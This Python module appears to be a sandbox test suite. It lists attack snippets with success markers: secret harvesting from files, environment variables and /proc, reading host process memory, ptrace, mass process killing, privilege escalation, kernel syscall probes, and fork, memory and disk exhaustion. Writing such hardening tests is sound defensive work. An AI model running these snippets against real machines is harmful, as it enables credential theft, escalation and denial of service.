"""What hostile code tries: attacks on the sandbox, each with a way to see that it succeeded.

An attack prints a line that begins with REACHED when it got what it must not get; some are seen
from outside instead. The words in capitals between @ are filled in with what the host has put out
as bait.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Category = Literal["read", "net", "write", "link", "escape", "surface", "dos", "output"]
Sign = Literal[
    "printed", "hit", "outside", "planted", "collected", "victim", "processes", "busy", "memory"
]  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        id: short, for lists.
        category: what it is after.
        title: in words.
        code: what is run.
        sign: how its success is seen.
        expected: why it succeeds in a tier all the same, by the tier's name.
        quick: part of the short suite.
        ruinous: it would hurt the machine where nothing confines it, so it is only tried inside.
    """

    id: str
    category: Category
    title: str
    code: str
    sign: Sign = "printed"
    expected: tuple[tuple[str, str], ...] = ()
    quick: bool = False
    ruinous: bool = False


def _syscall(name: str, numbers: tuple[int, int], arguments: str, *, fine: str = "r >= 0") -> str:
    """Code that makes a system call by its number on x86_64 or aarch64."""
    return f"""
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long
nr = {{"x86_64": {numbers[0]}, "aarch64": {numbers[1]}}}[platform.machine()]
buffer = ctypes.create_string_buffer(4096)
r = libc.syscall(nr, {arguments})
print("REACHED {name}" if {fine} else f"held {{ctypes.get_errno()}}")
"""


_CONNECT = """
import socket
s = socket.socket({family}, {kind}); s.settimeout(2)
s.connect({address}); s.send(b"x"); print("REACHED")
"""
_STAT_REASON = "without namespaces, names and sizes of the host's files can be seen"

ATTACKS: tuple[Attack, ...] = (
    # --- reading ---
    Attack(
        "read-file",
        "read",
        "read a file of the host",
        """
print("REACHED" if "@SECRET@" in open("@SECRETFILE@").read() else "")
""",
        quick=True,
    ),
    Attack(
        "read-walk",
        "read",
        "look through all folders for the secret",
        """
import os
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "site-packages")]
    for name in files:
        try:
            if "@SECRET@" in open(os.path.join(root, name), errors="replace").read(4096):
                print("REACHED", root, name)
        except OSError: pass
""",
    ),
    Attack(
        "read-environ",
        "read",
        "find a secret among the variables",
        """
import os
print("REACHED" if "@SECRET@" in str(dict(os.environ)) else "")
""",
        quick=True,
    ),
    Attack(
        "read-proc-environ",
        "read",
        "find it in what any process was started with",
        """
import glob
for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
    try:
        if b"@SECRET@" in open(path, "rb").read(): print("REACHED", path)
    except OSError: pass
""",
    ),
    Attack(
        "read-cmdline",
        "read",
        "see the processes of the host",
        """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if b"@VICTIMMARK@" in open(path, "rb").read(): print("REACHED", path)
    except OSError: pass
""",
        quick=True,
    ),
    Attack(
        "read-proc-root",
        "read",
        "walk to the host through /proc/PID/root",
        """
for pid in ("1", "@HOSTPID@", "@VICTIM@"):
    try: print("REACHED" if "@SECRET@" in open(f"/proc/{pid}/root@SECRETFILE@").read() else "")
    except OSError: pass
""",
    ),
    Attack(
        "read-memory",
        "read",
        "read the host's memory",
        """
import re
try:
    for line in open("/proc/@HOSTPID@/maps"):
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if m:
            with open("/proc/@HOSTPID@/mem", "rb", 0) as f:
                f.seek(int(m[1], 16))
                try: data = f.read(min(int(m[2], 16) - int(m[1], 16), 1 << 24))
                except OSError: continue
            if b"@SECRET@" in data: print("REACHED"); break
except OSError: pass
""",
    ),
    Attack(
        "read-shm",
        "read",
        "attach a shared segment of the host",
        """
import ctypes
libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p
id = libc.shmget(@SHMKEY@, 64, 0)
at = libc.shmat(id, None, 0) if id >= 0 else None
print("REACHED" if at and at < (1 << 63) and b"@SECRET@" in ctypes.string_at(at, 40) else "")
""",
    ),
    Attack(
        "read-devices",
        "read",
        "read disks and the kernel's log",
        """
import glob
for path in glob.glob("/dev/[vsh]d*") + ["/dev/mem", "/dev/kmsg", "/proc/kcore", "/proc/kmsg"]:
    try:
        if open(path, "rb").read(16): print("REACHED", path)
    except OSError: pass
""",
    ),
    Attack(
        "read-stat",
        "read",
        "learn that a file exists, and its size",
        """
import os
print("REACHED" if os.stat("@SECRETFILE@").st_size else "")
""",
        expected=(("landlock", _STAT_REASON),),
    ),
    Attack(
        "read-descriptor",
        "read",
        "use a descriptor that was left open",
        """
import os
for fd in range(3, 256):
    try:
        link = os.readlink(f"/proc/self/fd/{fd}")
        if "@BAIT@" in link: print("REACHED", link)
    except OSError: pass
""",
    ),
    # --- network ---
    Attack(
        "net-tcp",
        "net",
        "connect to a service on the host",
        _CONNECT.format(
            family="socket.AF_INET", kind="socket.SOCK_STREAM", address='("127.0.0.1", @TCP@)'
        ),
        sign="hit",
        quick=True,
    ),
    Attack(
        "net-udp",
        "net",
        "send a datagram out",
        """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("127.0.0.1", @UDP@))
""",
        sign="hit",
    ),
    Attack(
        "net-tcp6",
        "net",
        "connect by IPv6",
        """
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); print("REACHED a socket of IPv6")
""",
    ),
    Attack(
        "net-unix",
        "net",
        "connect to a host's socket by its path",
        _CONNECT.format(family="socket.AF_UNIX", kind="socket.SOCK_STREAM", address='"@UNIX@"'),
        sign="hit",
        quick=True,
    ),
    Attack(
        "net-unix-datagram",
        "net",
        "send to a host's datagram socket",
        """
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"x", "@DATAGRAM@")
""",
        sign="hit",
    ),
    Attack(
        "net-abstract",
        "net",
        "connect to an abstract socket",
        _CONNECT.format(
            family="socket.AF_UNIX", kind="socket.SOCK_STREAM", address='"\\0@ABSTRACT@"'
        ),
        sign="hit",
    ),
    Attack(
        "net-vsock",
        "net",
        "talk to the hypervisor",
        """
import socket
s = socket.socket(40, socket.SOCK_STREAM); print("REACHED a vsock")
""",
    ),
    Attack(
        "net-netlink",
        "net",
        "ask the kernel for interfaces",
        """
import socket
s = socket.socket(16, socket.SOCK_RAW, 0); print("REACHED netlink")
""",
    ),
    Attack(
        "net-resolve",
        "net",
        "resolve a name",
        """
import socket
print("REACHED", socket.gethostbyname("example.com"))
""",
    ),
    # --- writing ---
    Attack(
        "write-file",
        "write",
        "write beside the secret",
        """
open("@OUTSIDE@/planted", "w").write("x")
""",
        sign="outside",
        quick=True,
    ),
    Attack(
        "write-parent",
        "write",
        "climb out of the folder",
        """
import os
for up in range(1, 12):
    try: open("/mnt/data/" + "../" * up + "@OUTSIDE@/planted", "w").write("x")
    except OSError: pass
""",
        sign="outside",
    ),
    Attack(
        "write-packages",
        "write",
        "plant code where the host imports it",
        """
import sys, os
for path in sys.path:
    try: open(os.path.join(path, "@PLANTED@"), "w").write("x")
    except OSError: pass
""",
        sign="planted",
    ),
    Attack(
        "write-mode",
        "write",
        "change the mode of a host's file",
        """
import os
os.chmod("@OUTSIDE@/mode", 0o777)
""",
        sign="outside",
    ),
    Attack(
        "write-proc",
        "write",
        "change the kernel's settings",
        """
for path in ("/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
    try:
        value = "-999" if "oom" in path else open(path).read()
        open(path, "w").write(value); print("REACHED", path)
    except OSError: pass
""",
    ),
    # --- links ---
    Attack(
        "link-symbolic",
        "link",
        "have the host collect a secret through a link",
        """
import os
os.symlink("@SECRETFILE@", "/mnt/data/result.txt")
""",
        sign="collected",
        quick=True,
    ),
    Attack(
        "link-folder",
        "link",
        "the same through a linked folder",
        """
import os
os.symlink(os.path.dirname("@SECRETFILE@"), "/mnt/data/folder")
""",
        sign="collected",
    ),
    Attack(
        "link-hard",
        "link",
        "the same through a hard link",
        """
import os
os.link("@SECRETFILE@", "/mnt/data/result.txt")
""",
        sign="collected",
    ),
    Attack(
        "link-proc",
        "link",
        "a link that means the reader's own memory",
        """
import os
os.symlink("/proc/self/environ", "/mnt/data/result.txt")
""",
        sign="collected",
    ),
    # --- leaving ---
    Attack(
        "escape-ptrace",
        "escape",
        "trace a process of the host",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("REACHED" if libc.ptrace(16, @VICTIM@, 0, 0) == 0 else "")
""",
    ),
    Attack(
        "escape-kill",
        "escape",
        "kill a process of the host",
        """
import os
os.kill(@VICTIM@, 9)
""",
        sign="victim",
        quick=True,
    ),
    Attack(
        "escape-kill-all",
        "escape",
        "kill everything",
        """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.kill(-1, 15)
""",
        sign="victim",
        ruinous=True,
    ),
    Attack(
        "escape-vm-read",
        "escape",
        "copy another process's memory",
        _syscall("process_vm_readv", (310, 270), "@VICTIM@, buffer, 1, buffer, 1, 0", fine="r > 0"),
    ),
    Attack(
        "escape-root",
        "escape",
        "become root",
        """
import os
for action in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0)):
    try: action(); print("REACHED" if os.getuid() == 0 else "")
    except OSError: pass
""",
        quick=True,
        ruinous=True,
    ),
    Attack(
        "escape-sudo",
        "escape",
        "become root by a program that may",
        """
import subprocess
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"]):
    try: out = subprocess.run(command, capture_output=True, text=True, timeout=5).stdout
    except (OSError, subprocess.SubprocessError): continue
    if "uid=0" in out: print("REACHED")
""",
    ),
    Attack(
        "escape-shm-file",
        "escape",
        "meet the host in /dev/shm",
        """
import os
for name in os.listdir("/dev/shm"):
    if "@ABSTRACT@" in name: print("REACHED", name)
""",
    ),
    # --- the kernel's surface ---
    Attack(
        "surface-userns",
        "surface",
        "make a user namespace, and be root in it",
        _syscall("unshare", (272, 97), "0x10000000"),
    ),
    Attack(
        "surface-mount",
        "surface",
        "mount",
        _syscall("mount", (165, 40), 'b"none", b"/tmp", b"tmpfs", 0, 0'),
        ruinous=True,
    ),
    Attack(
        "surface-keyctl",
        "surface",
        "use the kernel's keyring",
        _syscall("keyctl", (250, 219), "0, -3, 0", fine="r >= 0"),
    ),
    Attack(
        "surface-bpf",
        "surface",
        "load a program into the kernel",
        _syscall("bpf", (321, 280), "0, buffer, 72", fine="r >= 0"),
    ),
    Attack(
        "surface-perf",
        "surface",
        "open performance counters",
        _syscall("perf_event_open", (298, 241), "buffer, 0, -1, -1, 0", fine="r >= 0"),
    ),
    Attack(
        "surface-io-uring",
        "surface",
        "go around the filter by io_uring",
        _syscall("io_uring_setup", (425, 425), "4, buffer"),
    ),
    Attack(
        "surface-userfaultfd",
        "surface",
        "handle page faults",
        _syscall("userfaultfd", (323, 282), "1"),
    ),
    Attack(
        "surface-memfd",
        "surface",
        "keep memory that no limit counts",
        _syscall("memfd_create", (319, 279), 'b"x", 0'),
    ),
    Attack(
        "surface-personality",
        "surface",
        "switch off random addresses",
        _syscall("personality", (135, 92), "0x40000", fine="r >= 0"),
    ),
    Attack(
        "surface-syslog",
        "surface",
        "read the kernel's log",
        _syscall("syslog", (103, 116), "3, buffer, 4096"),
    ),
    Attack(
        "surface-handle",
        "surface",
        "open a file by its handle",
        _syscall("name_to_handle_at", (303, 264), '-100, b"/", buffer, buffer, 0', fine="r >= 0"),
    ),
    Attack(
        "surface-raw",
        "surface",
        "open a raw socket",
        """
import socket
s = socket.socket(17, socket.SOCK_RAW, 0); print("REACHED a packet socket")
""",
    ),
    Attack(
        "surface-shmget",
        "surface",
        "make a segment that outlives the process",
        _syscall("shmget", (29, 194), "0, 4096, 0o1600"),
    ),
    # --- denial of service ---
    Attack(
        "dos-forks",
        "dos",
        "fork without end",
        """
import os, time
end = time.time() + 3
while time.time() < end:
    try:
        if os.fork() == 0:
            time.sleep(20); os._exit(0)
    except OSError: time.sleep(0.01)
""",
        sign="processes",
        quick=True,
        ruinous=True,
    ),
    Attack(
        "dos-memory",
        "dos",
        "take all memory",
        """
blocks = []
while True: blocks.append(bytearray(64 << 20)); print(len(blocks)) if len(blocks) == 80 else None
""",
        sign="memory",
        ruinous=True,
    ),
    Attack(
        "dos-disk",
        "dos",
        "fill the disk",
        """
with open("/mnt/data/big", "wb") as f:
    for _ in range(1500): f.write(b"x" * (1 << 20))
print("REACHED 1.5 GB")
""",
    ),
    Attack(
        "dos-output",
        "dos",
        "flood the host with output",
        """
while True: print("x" * 100000)
""",
        sign="memory",
    ),
    Attack(
        "dos-background",
        "dos",
        "go on computing after the cell",
        """
import threading
def spin():
    while True: pass
for _ in range(2): threading.Thread(target=spin, daemon=True).start()
""",
        sign="busy",
    ),
    Attack(
        "dos-daemon",
        "dos",
        "leave a process behind",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "@SLEEPMARK@"])
    os._exit(0)
time.sleep(0.5)
""",
        sign="processes",
    ),
    Attack(
        "dos-descriptors",
        "dos",
        "open descriptors without end",
        """
import os
n = 0
try:
    while n < 5000: os.open("/dev/null", os.O_RDONLY); n += 1
except OSError: pass
print("REACHED" if n >= 5000 else f"held at {n}")
""",
    ),
    Attack(
        "dos-threads",
        "dos",
        "start OS threads without end",
        """
import threading, time
n = 0
try:
    while n < 3000: threading.Thread(target=time.sleep, args=(5,), daemon=True).start(); n += 1
except RuntimeError: pass
print("REACHED" if n >= 3000 else f"held at {n}")
""",
    ),
)
